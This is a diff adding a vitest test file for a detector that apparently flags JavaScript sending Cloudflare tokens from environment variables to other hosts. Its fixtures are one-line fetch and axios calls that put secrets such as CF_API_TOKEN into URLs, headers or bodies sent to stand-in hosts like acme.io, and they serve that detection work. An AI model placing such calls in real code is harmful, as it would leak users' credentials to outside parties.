@@ -1,0 +1,53 @@
+import { expect, it } from 'vitest';
+import { elsewhere } from '../../../src/facts/exposure/disclosures.js';
+import { javascript } from '../../read.js';
+
+/** What gets out by the requests of a program, to whom, and where. */
+function told(code: string): readonly string[] {
+  const file = javascript(code);
+  return elsewhere(file).map(({ how, variable, by, at }) => `${how} ${variable} ${by} | ${file.text.slice(at.start, at.end)}`);
+}
+
+const T = 'process.env.CF_API_TOKEN';
+const hook = 'process.env.CF_HOOK_TOKEN';
+
+it.each([
+  // in the URL
+  [`fetch('https://acme.io/?token=' + ${T});`, `url CF_API_TOKEN acme.io | ${T}`],
+  [`fetch(\`https://\${host}/?token=\${${T}}\`);`, `url CF_API_TOKEN fetch | ${T}`],
+  [`fetch('https:///?token=' + ${T});`, `url CF_API_TOKEN fetch | ${T}`],
+  [`const url = 'https://acme.io/?token=' + ${T}; fetch(url);`, 'url CF_API_TOKEN acme.io | fetch'],
+  [`fetch(${T});`, `url CF_API_TOKEN fetch | ${T}`],
+  [`import axios from 'axios'; axios.get('https://acme.io', { params: ${T} });`, `url CF_API_TOKEN acme.io | ${T}`],
+  // a URL that is a secret
+  [`fetch(${hook}, { method: 'POST' }); fetch(process.env.CF_URL_TOKEN);`],
+  [`fetch('https://acme.io/' + ${hook});`, `url CF_HOOK_TOKEN acme.io | ${hook}`],
+  [`import axios from 'axios'; axios.get('https://acme.io', { params: { t: ${hook} } });`, `url CF_HOOK_TOKEN acme.io | ${hook}`],
+  // in headers to others
+  [`fetch('https://acme.io', { headers: { 'x-t': ${T} } });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
+  [`fetch('https://acme.io', { headers: { 'x-t': process.env.ACME_CLOUDFLARE_TOKEN } });`],
+  [`fetch('https://acme.io', { headers: { 'CF-Access-Client-Secret': process.env.CLOUDFLARE_ACCESS_CLIENT_SECRET } });`],
+  [`fetch('https://acme.io', { headers: { 'x-cf-access-': process.env.CF_API_TOKEN } });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
+  [`fetch('https://acme.workers.dev', { headers: { 'x-t': ${T} }, body: ${T} });`],
+  [`fetch(url, { headers: { 'x-t': ${T} }, body: ${T} });`],
+  // in the body
+  [`fetch('https://acme.io', { body: ${T} });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
+  [`const body = JSON.stringify({ t: ${T} }); fetch('https://acme.io', { body });`, `elsewhere CF_API_TOKEN acme.io | t: ${T}`],
+  [`const body = ${T}; fetch('https://acme.io', { body });`, 'elsewhere CF_API_TOKEN acme.io | fetch'],
+  // what one's own programs tell one another
+  [`fetch('https://acme.io', { body: JSON.stringify([process.env.CF_WORKERS_TOKEN, process.env.CF_PROXY_TOKEN]) });`],
+  [
+    `fetch('https://acme.io', { body: process.env.CF_ORIGINAL_TOKEN });`,
+    'elsewhere CF_ORIGINAL_TOKEN acme.io | process.env.CF_ORIGINAL_TOKEN',
+  ],
+  [
+    `fetch('https://acme.io', { body: process.env.CF_SUBWORKER_TOKEN });`,
+    'elsewhere CF_SUBWORKER_TOKEN acme.io | process.env.CF_SUBWORKER_TOKEN',
+  ],
+])('%s', (code, ...expected) => {
+  expect(told(`${code} // Cloudflare`)).toEqual(expected);
+});
+
+it('a file that only speaks of wrangler sends its secrets where it likes', () => {
+  expect(told(`fetch('https://acme.io/' + ${T}, { body: ${T} }); // wrangler`)).toEqual([`url CF_API_TOKEN acme.io | ${T}`]);
+});
